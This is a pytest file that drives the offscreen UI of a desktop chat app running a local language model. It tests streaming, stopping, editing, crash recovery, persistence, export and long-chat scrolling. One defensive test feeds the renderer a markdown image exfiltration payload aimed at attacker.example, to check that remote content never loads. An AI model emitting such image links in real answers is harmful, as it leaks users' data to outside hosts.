"""The desktop app, driven offscreen with the real engine, the real model and real SQLite."""

from __future__ import annotations

import json
from pathlib import Path

from PySide6.QtCore import QTimer
from pytestqt.qtbot import QtBot

from app.engine.types import LoadSettings, SamplingParams
from app.ui.common.markdown import MarkdownRenderer
from app.ui.common.textbrowser import SafeTextBrowser
from app.ui.window import MainWindow
from tests.ui.windows import WAIT_MS, make_window, send_and_wait, view_settled


def test_first_run_shows_welcome(qtbot: QtBot) -> None:
    w = make_window(qtbot, None)
    try:
        assert w.pages.currentWidget() is w.welcome
        assert "GGUF" in w.welcome.text.text()
    finally:
        w.controller.shutdown()


def test_send_streams_answer_into_view_and_sqlite(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    assert w.pages.currentWidget() is w.chat_page  # a model is known: straight to a chat
    chunks: list[str] = []
    w.controller.streamText.connect(lambda _c, _m, text: chunks.append(text))
    _conv_id, message_id, status, error, stats = send_and_wait(qtbot, w, "What is the capital of France?")
    assert status == "complete", error
    saved = w.store.message(message_id)  # type: ignore[arg-type]
    assert "Paris" in saved.content
    assert saved.status == "complete"
    assert "".join(chunks) == saved.content
    assert stats["completion_tokens"] > 0
    widget = w.chat_page.chat_view.widgets[-1]
    qtbot.waitUntil(lambda: "Paris" in widget.body.toPlainText(), timeout=5000)
    assert w.sidebar.conversations.conversation_at(0).title == "What is the capital of France?"  # type: ignore[union-attr]
    assert "tok/s" in w.status.speed.text()
    assert w.status.ctx_meter.value() >= 1


def test_stop_keeps_partial_answer(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    conv = w.store.conversation(w.current_conv)  # type: ignore[arg-type]
    w.store.update_conversation(conv.id, sampling=SamplingParams(temperature=0.0, max_tokens=2000))
    w.select_conversation(conv.id)
    w.chat_page.settings_panel.max_tokens.setValue(2000)
    first = []
    w.controller.streamText.connect(lambda *_: first.append(1) or (len(first) == 1 and w.chat_page.stop_button.click()))
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
        w.chat_page.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12,")
        w.chat_page.send_button.click()
    _conv, message_id, status, _error, stats = blocker.args  # type: ignore[misc]
    assert status == "interrupted"
    assert stats["finish_reason"] == "cancelled"
    saved = w.store.message(message_id)
    assert saved.status == "interrupted"
    assert saved.content  # what was streamed before Stop is kept
    assert stats["completion_tokens"] < 2000
    assert w.chat_page.send_button.isVisible()
    assert not w.chat_page.stop_button.isVisible()


def test_regenerate_and_edit(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    send_and_wait(qtbot, w, "What is the capital of France?")
    first = w.store.messages(w.current_conv)  # type: ignore[arg-type]
    assert [m.role for m in first] == ["user", "assistant"]
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS):
        w.chat_page.chat_view.widgets[-1].regen_button.click()
    second = w.store.messages(w.current_conv)  # type: ignore[arg-type]
    assert [m.role for m in second] == ["user", "assistant"]
    assert second[1].id != first[1].id
    assert "Paris" in second[1].content  # greedy: same answer again
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS):
        w.controller.edit_and_resend(second[0].id, "What is the capital of Italy?")
    third = w.store.messages(w.current_conv)  # type: ignore[arg-type]
    assert next(m.content for m in third) == "What is the capital of Italy?"
    assert len(third) == 2
    assert third[1].status == "complete"
    assert len(w.chat_page.chat_view.widgets) == 2
    # every version is kept: "‹ 2 / 2 ›" on the question, and the conversation below follows it
    question, answer = w.chat_page.chat_view.widgets
    assert question.version_label.isVisible()
    assert question.version_label.text() == "2 / 2"
    assert not answer.version_label.isVisible()  # the Italy answer has no other version
    question.prev_version.click()
    shown = w.store.messages(w.current_conv)  # type: ignore[arg-type]
    assert [m.id for m in shown] == [second[0].id, second[1].id]  # France, its latest answer
    view_settled(qtbot, w)
    question, answer = w.chat_page.chat_view.widgets
    assert question.version_label.text() == "1 / 2"
    assert "Paris" in answer.body.toPlainText()
    assert answer.version_label.text() == "2 / 2"  # the regenerated answer, the first still there
    answer.prev_version.click()
    assert w.store.messages(w.current_conv)[1].id == first[1].id  # type: ignore[arg-type]
    view_settled(qtbot, w)
    assert w.chat_page.chat_view.widgets[1].version_label.text() == "1 / 2"


def test_switch_conversation_while_generating(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    a = w.current_conv
    w.store.update_conversation(a, sampling=SamplingParams(temperature=0.0, max_tokens=200))  # type: ignore[arg-type]
    w.select_conversation(a)  # type: ignore[arg-type]
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
        w.chat_page.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
        w.chat_page.send_button.click()
        qtbot.waitSignal(w.controller.streamText, timeout=WAIT_MS).wait()
        w.new_chat()
        b = w.current_conv
        assert b != a
        assert w.chat_page.messages.rowCount() == 0
    assert blocker.args[0] == a  # type: ignore[index]
    assert w.chat_page.messages.rowCount() == 0  # B's view was not touched by A's stream
    w.select_conversation(a)  # type: ignore[arg-type]
    msgs = w.store.messages(a)  # type: ignore[arg-type]
    assert msgs[-1].status == "complete"
    assert msgs[-1].content
    assert w.chat_page.chat_view.widgets[-1].text == msgs[-1].content


def test_engine_killed_mid_answer_shows_error_and_keeps_text(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=1500))  # type: ignore[arg-type]
    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
    seen = []

    def on_text(*_: object) -> None:
        seen.append(1)
        if len(seen) == 3:
            w.controller.engine.kill()

    w.controller.streamText.connect(on_text)
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
        w.chat_page.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
        w.chat_page.send_button.click()
    _c, message_id, status, error, _s = blocker.args  # type: ignore[misc]
    assert status == "error"
    assert "crashed" in error
    assert "SIGKILL" in error
    saved = w.store.message(message_id)
    assert saved.content
    assert saved.status == "error"
    widget = w.chat_page.chat_view.widgets[-1]
    assert widget.error.isVisibleTo(w)
    assert "crashed" in widget.error.text()
    # the user retries: a fresh engine answers
    w.controller.streamText.disconnect(on_text)
    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=32))  # type: ignore[arg-type]
    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
    _c, _m, status, error, _s = send_and_wait(qtbot, w, "What is the capital of France?")
    assert status == "complete", error


def test_conversation_survives_restart(qtbot: QtBot, test_model: Path) -> None:
    """The chat comes back after a restart, and so does its evaluated state: the follow-up reads only
    what is new. (Kept states need more than 64 tokens: the first question is long enough.)"""
    w = make_window(qtbot, test_model)
    question = "Here is a list of European countries: " + ", ".join(
        ["France", "Spain", "Italy", "Germany", "Portugal", "Austria", "Belgium", "Greece"] * 3
    ) + ". What is the capital of France?"
    _c, _m, status, error, first = send_and_wait(qtbot, w, question)
    assert status == "complete", error
    assert first["prompt_tokens"] + first["completion_tokens"] > 64  # type: ignore[index]
    conv_id = w.current_conv
    w.close()  # saves state, shuts the engine down
    w.store.close()
    w2 = make_window(qtbot, test_model)
    try:
        assert w2.current_conv == conv_id
        msgs = w2.store.messages(conv_id)  # type: ignore[arg-type]
        assert [m.role for m in msgs] == ["user", "assistant"]
        assert w2.chat_page.messages.rowCount() == 2
        _c, _m, status, error, stats = send_and_wait(qtbot, w2, "And the capital of Spain?")
        assert status == "complete", error
        assert stats["prompt_tokens"] == stats["prompt_reused"] + stats["prompt_evaluated"]  # type: ignore[index]
        # the state kept when the first window closed was put back: the whole first prompt is reused
        assert stats["prompt_restored"] > 0  # type: ignore[index]
        assert stats["prompt_reused"] >= first["prompt_tokens"]  # type: ignore[index]
        assert len(w2.store.messages(conv_id)) == 4  # type: ignore[arg-type]
    finally:
        w2.controller.shutdown()


def test_export_import_round_trip(qtbot: QtBot, window: MainWindow, tmp_path: Path) -> None:
    w = window
    send_and_wait(qtbot, w, "What is the capital of France?")
    original = w.current_conv
    w.transfer.write_export(original, "json", tmp_path / "chat.json")  # type: ignore[arg-type]
    w.transfer.write_export(original, "md", tmp_path / "chat.md")  # type: ignore[arg-type]
    assert "Paris" in (tmp_path / "chat.md").read_text()
    assert json.loads((tmp_path / "chat.json").read_text())["format"] == "paddock-conversation"
    w.transfer.read_import(tmp_path / "chat.json")
    assert w.current_conv != original
    assert [(m.role, m.content) for m in w.store.messages(w.current_conv)] == [  # type: ignore[arg-type]
        (m.role, m.content) for m in w.store.messages(original)  # type: ignore[arg-type]
    ]


def test_item_models_pass_qtmodeltester(qtbot: QtBot, window: MainWindow, qtmodeltester: object) -> None:
    w = window
    send_and_wait(qtbot, w, "What is the capital of France?")
    qtmodeltester.check(w.sidebar.conversations)  # type: ignore[attr-defined]
    qtmodeltester.check(w.chat_page.messages)  # type: ignore[attr-defined]


def test_event_loop_stays_responsive_while_streaming(qtbot: QtBot, window: MainWindow) -> None:
    """The GUI thread keeps running its event loop during a long answer: a timer keeps firing and the
    view receives the text in many small updates. (How late the loop runs is a figure for the
    benchmarks, not a test assertion.)"""
    w = window
    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=400))  # type: ignore[arg-type]
    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
    beats: list[int] = []
    updates: list[int] = []
    timer = QTimer()
    timer.setInterval(10)
    timer.timeout.connect(lambda: beats.append(len(updates)))
    w.controller.streamText.connect(lambda *_: updates.append(1))
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS) as blocker:
        w.chat_page.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
        w.chat_page.send_button.click()
        timer.start()
    timer.stop()
    stats = blocker.args[4]  # type: ignore[index]
    assert stats["completion_tokens"] > 50
    assert len(updates) > 5  # streamed in many pieces, not one block at the end
    # The timer fired between streamed pieces: the event loop ran while the answer was being generated.
    assert len({b for b in beats if 0 < b < len(updates)}) > 3


def test_rendered_answers_never_load_remote_content() -> None:
    html = MarkdownRenderer().render(
        "Summary. ![x](http://attacker.example/?q=secret) <img src='http://attacker.example/y.png'>"
    ).html
    assert "<img" not in html
    assert "attacker.example/?q=secret" in html  # shown as a link the user may choose to click
    browser = SafeTextBrowser()
    assert browser.loadResource(2, "http://attacker.example/y.png") is None


def test_code_blocks_get_copy_links() -> None:
    rendered = MarkdownRenderer().render("Code:\n\n```python\nprint('hi')\n```\n")
    assert rendered.code_blocks == ("print('hi')",)
    assert 'href="paddock-copy:0"' in rendered.html


def test_settings_apply_to_the_next_load_and_persist(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    send_and_wait(qtbot, w, "What is the capital of France?")
    assert w.controller.loaded is not None
    assert w.controller.loaded.n_ctx == 2048
    with qtbot.waitSignal(w.controller.modelLoaded, timeout=WAIT_MS) as blocker:
        w.apply_settings("Answer in one word.", LoadSettings(n_ctx=1024, n_threads=1))
    assert blocker.args[0].n_ctx == 1024  # type: ignore[index]
    assert blocker.args[0].n_threads == 1  # type: ignore[index]
    assert w.store.get_setting("load_settings")["n_ctx"] == 1024
    w.new_chat()
    assert w.store.conversation(w.current_conv).system_prompt == "Answer in one word."  # type: ignore[arg-type]
    assert w.chat_page.settings_panel.system.toPlainText() == "Answer in one word."


def test_chat_settings_are_written_only_when_they_change(qtbot: QtBot, window: MainWindow) -> None:
    """Every send saves the settings panel first; with nothing changed that writes nothing (each write waits for
    the disk on the GUI thread)."""
    w = window
    w.new_chat()
    conv_id = w.current_conv
    assert conv_id is not None
    page = w.chat_page
    page.save_chat_settings()
    writes = w.store.db.conn.total_changes
    page.save_chat_settings()
    assert w.store.db.conn.total_changes == writes
    page.settings_panel.system.setPlainText("Answer briefly.")
    page.settings_panel.max_tokens.setValue(77)
    page.save_chat_settings()
    conv = w.store.conversation(conv_id)
    assert conv.system_prompt == "Answer briefly."
    assert conv.sampling.max_tokens == 77


def test_enter_while_streaming_keeps_the_message_without_a_dialog(qtbot: QtBot, window: MainWindow) -> None:
    w = window
    w.store.update_conversation(w.current_conv, sampling=SamplingParams(temperature=0.0, max_tokens=300))  # type: ignore[arg-type]
    w.select_conversation(w.current_conv)  # type: ignore[arg-type]
    posted: list[object] = []
    w.bridge.posted.connect(posted.append)
    with qtbot.waitSignal(w.controller.streamFinished, timeout=WAIT_MS):
        w.chat_page.composer.setPlainText("1, 2, 3, 4, 5, 6, 7, 8,")
        w.chat_page.send_button.click()
        qtbot.waitSignal(w.controller.streamText, timeout=WAIT_MS).wait()
        w.chat_page.composer.setPlainText("And another question")
        w.chat_page.send()  # what Enter does
        assert w.chat_page.composer.toPlainText() == "And another question"
        levels = [m.level for m in posted]  # type: ignore[attr-defined]
        assert "status" in levels  # said in the status bar ...
        assert "error" not in levels  # ... and no modal box
        assert "warning" not in levels
        w.controller.stop()
    assert [m.role for m in w.store.messages(w.current_conv)] == ["user", "assistant"]  # type: ignore[arg-type]


def test_a_long_chat_opens_with_its_latest_messages_only(qtbot: QtBot, window: MainWindow) -> None:
    """A 1,000-message chat opens like a short one: its newest message at once, reading only the messages it
    shows; the ones above it a turn at a time (the view repainted once they fill it) up to OPENED; scrolling
    up builds the previous window the same way; switching chats reuses the widgets already made."""
    from app.ui.chat.itemmodels import READ
    from app.ui.chat.view import OPENED, WINDOW

    w = window
    long_chat = w.store.create_conversation("Long", model=w.store.conversation(w.current_conv).model)  # type: ignore[arg-type]
    for i in range(500):
        w.store.add_message(long_chat.id, "user", f"question {i}")
        w.store.add_message(long_chat.id, "assistant", f"answer **{i}**")
    short = w.current_conv
    view = w.chat_page.chat_view
    w.select_conversation(long_chat.id)
    assert len(view.widgets) == 1
    assert view.first == 999
    assert view.widgets[-1].text == "answer **499**"
    assert view.earlier.isVisible()
    assert len(w.chat_page.messages._rows._loaded) <= READ  # not the 1,000 messages
    qtbot.waitUntil(lambda: len(view.widgets) == OPENED, timeout=10_000)
    assert view.first == 1000 - OPENED
    assert view.widgets[0].text == f"question {(1000 - OPENED) // 2}"
    made = {id(x) for x in view.widgets}
    w.select_conversation(short)  # type: ignore[arg-type]
    w.select_conversation(long_chat.id)
    qtbot.waitUntil(lambda: len(view.widgets) == OPENED, timeout=10_000)
    assert {id(x) for x in view.widgets} == made  # each message in the widget that showed it
    # scrolled to the top: the previous window appears above, the newest stays last
    bar = view.verticalScrollBar()
    qtbot.waitUntil(lambda: bar.maximum() > 0, timeout=5000)
    bar.setValue(bar.minimum())
    qtbot.waitUntil(lambda: len(view.widgets) == OPENED + WINDOW, timeout=10_000)
    assert view.widgets[0].text == f"question {(1000 - OPENED - WINDOW) // 2}"
    assert view.widgets[-1].text == "answer **499**"
    # a streamed change reaches the right widget, whatever the window
    row = w.chat_page.messages.rowCount() - 1
    assert view.widget_for_row(row) is view.widgets[-1]
    assert view.widget_for_row(0) is None
    # farther up, the newest messages are let go of: the number built stays bounded ...
    from app.ui.chat.view import MAX_LIVE

    view.show_earlier()
    view.show_earlier()
    qtbot.waitUntil(lambda: view.first <= 1000 - OPENED - 3 * WINDOW and not view._grow.isActive(), timeout=30_000)
    assert len(view.widgets) == MAX_LIVE < OPENED + 3 * WINDOW
    assert view.widget_for_row(row) is None
    assert view.later.isVisible()
    assert view.widgets[0].text == f"question {view.first // 2}"
    # ... and built again on the way back down
    for _ in range(4):  # as the user scrolls to the bottom again and again
        view.show_later()
        qtbot.waitUntil(lambda: not view._grow.isActive(), timeout=20_000)
    assert view.widget_for_row(row) is not None
    assert view.widgets[-1].text == "answer **499**"
    assert not view.later.isVisible()
    assert len(view.widgets) == MAX_LIVE
